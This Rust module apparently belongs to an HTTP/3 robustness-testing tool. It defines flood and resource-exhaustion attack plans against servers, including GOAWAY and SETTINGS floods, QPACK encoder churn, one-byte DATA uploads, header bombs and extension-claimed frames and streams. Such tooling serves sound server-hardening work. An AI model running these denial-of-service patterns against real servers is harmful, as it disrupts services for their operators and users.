//! HTTP/3 frames, settings and QPACK instructions that no honest client sends so often, at full speed.

use courser_wire::{Direction, StreamId};

use crate::attack::{Expect, Plan, Victim};
use crate::connection::Connection;
use crate::http::{self, Method};
use crate::put_varint;

use super::{Crowd, crowd};

pub(super) const GOAWAY_FLOOD: Plan = Plan {
    name: "goaway-flood",
    labels: &["A86"],
    summary: "endless GOAWAY frames, all with the same push ID",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || {
        Box::new(Crowd::of_clients(2, |connection, progress, _| {
            let bytes = http::frame(http::GOAWAY, &[0]).repeat(300);
            for _ in 0..8 {
                progress.push_control(connection, &bytes);
            }
        }))
    },
};

pub(super) const UNKNOWN_FRAMES: Plan = Plan {
    name: "unknown-frames",
    labels: &["A81"],
    summary: "frames of reserved types without content on the control stream and before requests",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || {
        Box::new(Crowd::of_clients(2, |connection, progress, _| {
            let bytes = http::frame(http::GREASE, &[]).repeat(300);
            progress.push_control(connection, &bytes);
            let request = http::request_stream(0);
            connection.push_bytes(http::stream(request, progress.offset, &bytes, false));
            progress.offset += bytes.len() as u64;
        }))
    },
};

pub(super) const PRIORITY_FLOOD: Plan = Plan {
    name: "priority-flood",
    labels: &["A87"],
    summary: "PRIORITY_UPDATE frames for streams that are not open",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || {
        Box::new(Crowd::of_clients(2, |connection, progress, _| {
            let mut bytes = Vec::new();
            for _ in 0..80 {
                progress.streams += 1;
                let mut payload = Vec::new();
                // A hundred streams are within the peer's limit.
                put_varint(&mut payload, 4 * (progress.streams % 100));
                payload.extend_from_slice(b"u=1,i");
                bytes.extend(http::frame(http::PRIORITY_UPDATE, &payload));
            }
            progress.push_control(connection, &bytes);
        }))
    },
};

pub(super) const SETTINGS_FLOOD: Plan = Plan {
    name: "settings-flood",
    labels: &["A78", "A79"],
    summary: "an endless SETTINGS frame with unknown settings",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || Box::new(settings_flood()),
};

fn settings_flood() -> Crowd {
    Crowd::new(2, |connection, progress, _| {
        let id = http::uni_stream(http::CONTROL);
        let mut bytes = Vec::new();
        if progress.offset == 0 {
            bytes.push(0x00);
            bytes.extend(http::header(http::SETTINGS, 1 << 30));
        }
        for _ in 0..200 {
            progress.streams += 1;
            // Identifiers of the form 0x1f * N + 0x21 are reserved and ignored.
            put_varint(&mut bytes, 0x21 + 0x1f * progress.streams);
            put_varint(&mut bytes, 0);
        }
        connection.push_bytes(http::stream(id, progress.offset, &bytes, false));
        progress.offset += bytes.len() as u64;
    })
}

pub(super) const ENCODER_FLOOD: Plan = Plan {
    name: "encoder-flood",
    labels: &["A77"],
    summary: "capacity changes on the QPACK encoder stream without any request",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || {
        Box::new(Crowd::of_clients(2, |connection, progress, _| {
            // Capacities 0 and 1 alternate. Each change empties the dynamic table.
            let bytes = [0x20, 0x21].repeat(500);
            for _ in 0..8 {
                progress.push_encoder(connection, &bytes);
            }
        }))
    },
};

pub(super) const TINY_DATA: Plan = Plan {
    name: "tiny-data",
    labels: &["A81"],
    summary: "an upload in DATA frames of one byte each",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || Box::new(tiny_data()),
};

fn tiny_data() -> Crowd {
    Crowd::of_clients(2, |connection, progress, _| {
        // A new request in each turn, because unread content blocks at the stream's window.
        let Some(id) = progress.requests(connection, 1).next() else {
            return;
        };
        let mut bytes = http::request(Method::Post, "/");
        for _ in 0..4000 {
            bytes.extend(http::frame(http::DATA, &[0]));
        }
        for frame in http::stream_in_chunks(id, &bytes, true) {
            connection.push_bytes(frame);
        }
    })
}

pub(super) const HEADER_BOMB: Plan = Plan {
    name: "header-bomb",
    labels: &["A73"],
    summary: "HEADERS frames with thousands of short fields, every second one incomplete",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || Box::new(header_bomb()),
};

fn header_bomb() -> Crowd {
    Crowd::of_clients(4, |connection, progress, _| {
        for id in progress.requests(connection, 2) {
            let mut section = http::section(Method::Get, "/");
            // Each field line counts 33 bytes (RFC 9114 §4.2.2).
            for _ in 0..5000 {
                http::put_field(&mut section, "a", b"");
            }
            // Every second frame announces more bytes than it sends.
            let len = section.len() as u64 + ((id.index() + 1) % 2) * (1 << 20);
            let mut bytes = http::header(http::HEADERS, len);
            bytes.extend(section);
            for frame in http::stream_in_chunks(id, &bytes, false) {
                connection.push_bytes(frame);
            }
        }
    })
}

pub(super) const CLAIMED_FRAMES: Plan = Plan {
    name: "claimed-frames",
    labels: &["A125"],
    summary: "frames that an extension claims on the control stream and before requests",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || Box::new(claimed_frames()),
};

/// The victim's application takes none of the frames.
fn claimed_frames() -> Crowd {
    let payload = [0x5a; 200];
    Crowd::of_clients(2, move |connection, progress, _| {
        for id in progress.requests(connection, 8) {
            let mut bytes = http::frame(http::CLAIMED_ON_REQUESTS, &payload);
            bytes.extend(http::request(Method::Get, "/"));
            connection.push_bytes(http::stream(id, 0, &bytes, true));
        }
        // As slow as the budget for frames without progress allows, for as long as it lasts.
        if progress.bursts.is_multiple_of(2) {
            let bytes = http::frame(http::CLAIMED_ON_CONTROL, &payload);
            progress.push_control(connection, &bytes);
        }
    })
}

pub(super) const OVERSIZE_FRAMES: Plan = Plan {
    name: "oversize-frames",
    labels: &["A126"],
    summary: "frames that an extension claims, with the longest payload unfinished on many requests, \
              then with one above the limit",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || Box::new(oversize_frames()),
};

fn oversize_frames() -> Crowd {
    Crowd::of_clients(2, |connection, progress, _| {
        for id in progress.requests(connection, 16) {
            // The payload ends after 1000 bytes of 65 536.
            let mut bytes = http::header(http::CLAIMED_ON_REQUESTS, http::LONGEST_CLAIMED);
            bytes.resize(bytes.len() + 1000, 0x5a);
            connection.push_bytes(http::stream(id, 0, &bytes, false));
        }
        if progress.bursts == 100 {
            // One byte more than was claimed. The header alone is enough.
            let bytes = http::header(http::CLAIMED_ON_CONTROL, http::LONGEST_CLAIMED + 1);
            progress.push_control(connection, &bytes);
        }
    })
}

pub(super) const CLAIMED_STREAMS: Plan = Plan {
    name: "claimed-streams",
    labels: &["A124"],
    summary: "streams of types that an extension claims, with some content and an end",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || Box::new(claimed_streams()),
};

/// The victim's application accepts none of the streams. Each connection opens at most 32 of each direction in
/// one turn, and at most 90 unidirectional ones, which every server permits.
fn claimed_streams() -> Crowd {
    let crowd = Crowd::new(2, |connection, progress, _| {
        for id in progress.requests(connection, 32) {
            open_claimed(connection, id);
        }
        for _ in progress.offset..(progress.offset + 32).min(90) {
            // The first two are those of HTTP/3 itself.
            let id = http::uni_stream(2 + progress.offset);
            progress.offset += 1;
            open_claimed(connection, id);
        }
    });
    crowd.with_setup(crowd::preface)
}

/// Opens a stream of a claimed type.
fn open_claimed(connection: &mut Connection, id: StreamId) {
    let stream_type = match id.direction() {
        Direction::Bidirectional => http::CLAIMED_BIDIRECTIONAL,
        Direction::Unidirectional => http::CLAIMED_UNIDIRECTIONAL,
    };
    let mut bytes = Vec::new();
    put_varint(&mut bytes, stream_type);
    bytes.extend([0x5a; 500]);
    // The stream ends, so that a refused one permits another one.
    connection.push_bytes(http::stream(id, 0, &bytes, true));
}
